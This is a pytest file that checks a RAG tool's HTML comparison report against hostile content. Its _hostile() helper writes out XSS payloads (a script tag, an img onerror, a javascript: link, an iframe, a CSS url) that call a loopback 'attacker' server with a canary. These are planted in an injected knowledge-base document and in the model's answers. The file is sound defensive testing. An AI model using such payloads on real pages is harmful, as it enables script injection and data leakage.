"""The HTML report with hostile content (issue 13, item 5): it never runs or fetches what it shows.

A real ``compare`` run over a knowledge base with an injected document,
answered by a model (replayed on loopback through the real ``openai`` client)
whose answer carries HTML, JavaScript and Markdown images and links that point
at a loopback "attacker" server with a canary in the query string. The report
is opened in headless Chromium: nothing executes, nothing but the file is
requested, and the hostile text is shown as text. A second page, the same
report with raw markup spliced in after the escaping (an escaping bug
simulated), proves the Content-Security-Policy holds on its own.
"""

from __future__ import annotations

import html
import re
from collections.abc import Iterator
from html.parser import HTMLParser
from pathlib import Path
from typing import Any

import pytest

from fault_server import chunk
from ossrag import KnowledgeBase
from ossrag.evaluation.compare import run_compare
from ossrag.evaluation.report import CSP, write_report
from ossrag.llms.openai_compat import OpenAICompatLLM
from replay_server import ReplayServer
from server_kb import build_kb
from test_report import CHROMIUM, _browser_or_skip

CANARY = "CANARY-7d1e"


@pytest.fixture
def sink() -> Iterator[ReplayServer]:
    """The attacker's server: records every request that reaches it."""
    with ReplayServer() as s:
        yield s


def _hostile(url: str) -> str:
    return (
        f'<script>window.__pwned = 1</script><img src="{url}/img?c={CANARY}" '
        f'onerror="window.__pwned = 2"> ![logo]({url}/md?c={CANARY}) '
        f'[details](javascript:window.__pwned=3) <a href="{url}/a?c={CANARY}">more</a> '
        f'<iframe src="{url}/frame"></iframe><style>body{{background:url({url}/css)}}</style>'
    )


def _answer(text: str) -> dict[str, Any]:
    return {
        "status": 200,
        "sse": [
            chunk({"role": "assistant", "content": ""}),
            chunk({"reasoning": text}),
            chunk({"content": text}),
            chunk({}, "stop"),
            {"data": "[DONE]"},
        ],
    }


@pytest.fixture
def report(tmp_path: Path, sink: ReplayServer) -> Path:
    bad = _hostile(sink.url)
    settings = build_kb(
        tmp_path,
        docs={
            "lite.md": f"# Milvus Lite\n\nMilvus Lite keeps its data in a local file.\n\n{bad}\n"
        },
    )
    with ReplayServer() as model, KnowledgeBase(settings=settings) as kb:
        model.add(
            _answer(f"It keeps data in a file [1]. {bad}"),
            {"status": 500, "body": {"error": {"message": bad}}},
            {"status": 500, "body": {"error": {"message": bad}}},
            {"status": 500, "body": {"error": {"message": bad}}},
        )
        llm = OpenAICompatLLM("vllm:openai/gpt-oss-20b", base_url=model.url, backoff=0.01)
        questions = [
            {"question": f"Where is data kept? {bad}", "reference": "a local file"},
            {"question": "And the metadata?", "reference": "etcd"},
        ]
        run_compare(
            kb,
            questions,
            models=[llm],
            efforts=["low"],
            concurrency=1,
            db_path=tmp_path / "runs.db",
        )
    return write_report(tmp_path / "runs.db", out=tmp_path / "report.html")


class _Tags(HTMLParser):
    def __init__(self) -> None:
        super().__init__()
        self.tags: set[str] = set()
        self.attrs: set[str] = set()

    def handle_starttag(self, tag: str, attrs: list[tuple[str, str | None]]) -> None:
        self.tags.add(tag)
        self.attrs |= {name for name, _ in attrs}


def test_report_markup_is_only_its_own(report: Path) -> None:
    page = report.read_text(encoding="utf-8")
    parser = _Tags()
    parser.feed(page)
    assert not parser.tags & {"script", "img", "iframe", "a", "object", "embed", "form", "link"}
    assert not {a for a in parser.attrs if a.startswith("on")}
    assert parser.tags <= {
        "html",
        "head",
        "meta",
        "title",
        "style",
        "body",
        "h1",
        "h2",
        "h3",
        "h4",
        "p",
        "table",
        "thead",
        "tbody",
        "tr",
        "th",
        "td",
        "div",
        "span",
        "b",
        "details",
        "summary",
        "pre",
        "ul",
        "ol",
        "li",
        "section",
        "svg",
        "g",
        "rect",
        "circle",
        "line",
        "text",
        "polygon",
        "path",
        "polyline",
    }
    assert f'content="{CSP}"' in page
    # the hostile text is there, as text: answer, passage, question, error, reasoning
    assert page.count(html.escape("<script>window.__pwned = 1</script>")) >= 5


def _open(path: Path) -> tuple[list[str], Any, list[str]]:
    """Open ``path`` in Chromium: (requested URLs, window.__pwned, dialogs)."""
    sync_playwright = _browser_or_skip()
    requests: list[str] = []
    dialogs: list[str] = []
    with sync_playwright() as p:
        browser = p.chromium.launch(
            executable_path=CHROMIUM,
            args=["--headless", "--no-sandbox", "--disable-gpu", "--disable-background-networking"],
        )
        try:
            page = browser.new_page()
            page.on("requestfinished", lambda r: requests.append(r.url))  # not blocked ones
            page.on("dialog", lambda d: (dialogs.append(d.message), d.dismiss()))
            page.goto(path.as_uri())
            page.wait_for_load_state("load")
            page.wait_for_timeout(300)
            # what a reader does: open every collapsed section; nothing in there may act
            page.evaluate("document.querySelectorAll('details').forEach(d => d.open = true)")
            page.wait_for_timeout(300)
            pwned = page.evaluate("window.__pwned")
            text = page.locator("body").inner_text()
        finally:
            browser.close()
    assert CANARY in text
    return requests, pwned, dialogs


def test_hostile_report_in_chromium_runs_and_fetches_nothing(
    report: Path, sink: ReplayServer
) -> None:
    requests, pwned, dialogs = _open(report)
    assert pwned is None and not dialogs
    assert all(u.startswith("file://") for u in requests), requests
    assert not sink.requests  # the canary never left


def test_csp_holds_even_if_markup_escaped_the_escaping(
    report: Path, sink: ReplayServer, tmp_path: Path
) -> None:
    page = report.read_text(encoding="utf-8")
    raw = _hostile(sink.url) + f"<p>{CANARY}</p>"
    broken = tmp_path / "broken.html"
    broken.write_text(
        re.sub(r"(<body>)", lambda m: m.group(1) + raw, page, count=1), encoding="utf-8"
    )
    requests, pwned, dialogs = _open(broken)
    assert pwned is None and not dialogs, "a script ran: the CSP did not hold"
    assert not sink.requests, [r.path for r in sink.requests]
    assert all(u.startswith("file://") for u in requests), requests
